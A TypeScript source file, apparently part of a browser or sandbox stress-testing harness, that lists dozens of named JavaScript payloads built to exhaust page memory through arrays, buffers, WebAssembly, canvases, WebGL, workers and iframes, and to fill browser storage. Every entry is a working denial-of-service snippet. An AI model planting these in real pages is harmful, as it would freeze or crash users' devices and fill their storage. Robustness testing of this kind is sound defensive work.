import { type Attack, createScriptAttacks } from './attack.ts'

const inWorkers = (count: number, script: string): string =>
  `const address = URL.createObjectURL(new Blob([${JSON.stringify(script)}])); repeat(${count}, () => new Worker(address))`

/** Attacks on every kind of memory that a page can allocate. */
export const memoryAttacks: Attack[] = [
  ...createScriptAttacks({
    'memory-heap': `const all = []; for (;;) all.push(new Array(1e6).fill(Math.random()))`,
    'memory-heap-slowly': `const all = []; setInterval(() => all.push(new Array(4e6).fill(Math.random())), 1)`,
    'memory-strings': `const all = []; for (let index = 0; ; index += 1) all.push(('' + index + Math.random()).repeat(1e6).split('').reverse().join(''))`,
    'memory-string-growth': `let text = 'x'; for (;;) text += text + '\\u1234'`,
    'memory-buffers': `const all = []; for (;;) all.push(new Uint8Array(5e7).fill(1))`,
    'memory-resizable-buffer': `const buffer = new ArrayBuffer(0, { maxByteLength: 2 ** 34 }); for (let size = 1e7; ; size += 1e7) { buffer.resize(size); new Uint8Array(buffer).fill(1, size - 1e7) }`,
    'memory-shared-buffers': `const all = []; for (;;) all.push(new Uint8Array(new SharedArrayBuffer(5e7)).fill(1))`,
    'memory-wasm': `const all = []; for (;;) { const memory = new WebAssembly.Memory({ initial: 1000, maximum: 60000 }); new Uint8Array(memory.buffer).fill(1); all.push(memory) }`,
    'memory-wasm-shared': `const all = []; for (;;) { const memory = new WebAssembly.Memory({ initial: 1000, maximum: 60000, shared: true }); new Uint8Array(memory.buffer).fill(1); all.push(memory) }`,
    'memory-in-workers': inWorkers(50, 'const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1))'),
    'memory-messages': `const address = URL.createObjectURL(new Blob(['for (;;);'])); const worker = new Worker(address); for (;;) worker.postMessage(new Uint8Array(1e7).fill(1))`,
    'memory-channels': `const { port1, port2 } = new MessageChannel(); const all = [port2]; for (;;) port1.postMessage('x'.repeat(1e7))`,
    'memory-broadcast': `const channels = Array.from({ length: 50 }, () => new BroadcastChannel('a')); for (;;) channels[0].postMessage(new Uint8Array(1e7).fill(1))`,
    'memory-canvas': `const all = []; for (;;) { const canvas = document.createElement('canvas'); canvas.width = canvas.height = 8000; canvas.getContext('2d').fillRect(0, 0, 8000, 8000); all.push(canvas) }`,
    'memory-image-data': `const all = []; for (;;) all.push(new ImageData(5000, 5000))`,
    'memory-offscreen': inWorkers(
      10,
      'const all = []; for (;;) { const canvas = new OffscreenCanvas(8000, 8000); canvas.getContext("2d").fillRect(0, 0, 8000, 8000); all.push(canvas, canvas.transferToImageBitmap()) }',
    ),
    'memory-webgl': `const context = document.createElement('canvas').getContext('webgl2') ?? document.createElement('canvas').getContext('webgl'); const all = []; const data = new Uint8Array(4096 * 4096 * 4); for (;;) { const texture = context.createTexture(); context.bindTexture(context.TEXTURE_2D, texture); context.texImage2D(context.TEXTURE_2D, 0, context.RGBA, 4096, 4096, 0, context.RGBA, context.UNSIGNED_BYTE, data); all.push(texture) }`,
    'memory-webgl-contexts': `const all = []; repeat(1000, () => { const canvas = document.createElement('canvas'); canvas.width = canvas.height = 4000; all.push(canvas.getContext('webgl')) })`,
    'memory-blobs': `const all = []; setInterval(() => all.push(new Blob([new Uint8Array(5e7).fill(Math.random() * 256)])), 0)`,
    'memory-blob-of-blobs': `let blob = new Blob([new Uint8Array(1e7)]); repeat(40, () => { blob = new Blob([blob, blob]) }); blob.arrayBuffer().catch(() => 0); URL.createObjectURL(blob); fetch(URL.createObjectURL(blob)).then((answer) => answer.arrayBuffer()).catch(() => 0)`,
    'memory-streams': `new Response(new ReadableStream({ pull(controller) { controller.enqueue(new Uint8Array(1e7).fill(1)) } })).arrayBuffer()`,
    'memory-audio': `const all = []; for (;;) all.push(new AudioBuffer({ length: 1e7, sampleRate: 48000, numberOfChannels: 8 }))`,
    'memory-typed-views': `const all = []; for (;;) all.push(new Float64Array(1e6).map(Math.random), new BigInt64Array(1e6).fill(1n), new DataView(new ArrayBuffer(1e7)))`,
    'memory-array-length': `const all = []; try { new Array(2 ** 32 - 1).fill(0) } catch {} for (;;) { const hole = []; hole.length = 2 ** 31; hole.fill(1) ; all.push(hole) }`,
    'memory-clone': `let value = new Uint8Array(1e8).fill(1); const all = []; for (;;) all.push(structuredClone(value))`,
    'memory-video-frames': `const all = []; const canvas = new OffscreenCanvas(4000, 4000); canvas.getContext('2d').fillRect(0, 0, 9, 9); for (;;) all.push(new VideoFrame(canvas, { timestamp: 0 }))`,
    'memory-compression': `const stream = new CompressionStream('gzip'); const writer = stream.writable.getWriter(); new Response(stream.readable.pipeThrough(new DecompressionStream('gzip'))).arrayBuffer(); (async () => { for (;;) await writer.write(new Uint8Array(5e7)) })()`,
    'memory-in-frames': `repeat(20, () => { const frame = document.createElement('iframe'); frame.srcdoc = '<script>const all = []; setInterval(() => all.push(new Uint8Array(2e7).fill(1)), 0)</' + 'script>'; document.body.append(frame) })`,
    'memory-regular-expressions': `const all = []; repeat(1e6, (index) => all.push(new RegExp('(a|b' + index + '){' + (index % 1000) + '}').exec('a'.repeat(1000))))`,
    'memory-functions': `const all = []; for (let index = 0; ; index += 1) all.push(new Function('return ' + index + ';' + '1;'.repeat(20000)))`,
    'memory-with-everything': `${inWorkers(8, 'const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1))')}; const all = []; setInterval(() => { all.push(new Blob([new Uint8Array(2e7).fill(1)]), new ImageData(2000, 2000)); const canvas = document.createElement('canvas'); canvas.width = canvas.height = 4000; canvas.getContext('2d').fillRect(0, 0, 9, 9); all.push(canvas) }, 5)`,
  }),
]

/** Attacks that fill the storage of a page. */
export const storageAttacks: Attack[] = createScriptAttacks({
  'storage-indexeddb': `const request = indexedDB.open('a'); request.onupgradeneeded = () => request.result.createObjectStore('s'); request.onsuccess = () => { const store = request.result; const put = (index) => { const transaction = store.transaction('s', 'readwrite'); transaction.objectStore('s').put(new Uint8Array(2e7).fill(index), index); transaction.oncomplete = transaction.onabort = () => put(index + 1) }; put(0) }`,
  'storage-cache': `caches.open('a').then(async (cache) => { for (let index = 0; ; index += 1) await cache.put('/' + index, new Response(new Uint8Array(2e7).fill(index))).catch(() => 0) })`,
  'storage-files': `navigator.storage.getDirectory().then(async (root) => { for (let index = 0; ; index += 1) try { const file = await root.getFileHandle('f' + index, { create: true }); const writer = await file.createWritable(); await writer.write(new Uint8Array(2e7)); await writer.close() } catch {} })`,
  'storage-local': `for (let index = 0; ; index += 1) try { localStorage.setItem('k' + index, 'x'.repeat(1e6)); sessionStorage.setItem('k' + index, 'x'.repeat(1e6)) } catch {}`,
  'storage-cookies': `for (let index = 0; ; index += 1) document.cookie = 'c' + index + '=' + 'x'.repeat(4000)`,
  'storage-buckets': `repeat(1000, async (index) => { const bucket = await navigator.storageBuckets?.open('b' + index); await (await bucket.caches.open('a')).put('/', new Response(new Uint8Array(1e7))) })`,
  'storage-many-databases': `repeat(5000, (index) => { const request = indexedDB.open('d' + index); request.onupgradeneeded = () => request.result.createObjectStore('s') })`,
  'storage-file-system': `webkitRequestFileSystem?.(0, 2 ** 40, ({ root }) => repeat(100, (index) => root.getFile('f' + index, { create: true }, (file) => file.createWriter((writer) => writer.write(new Blob([new Uint8Array(1e7)]))))))`,
})
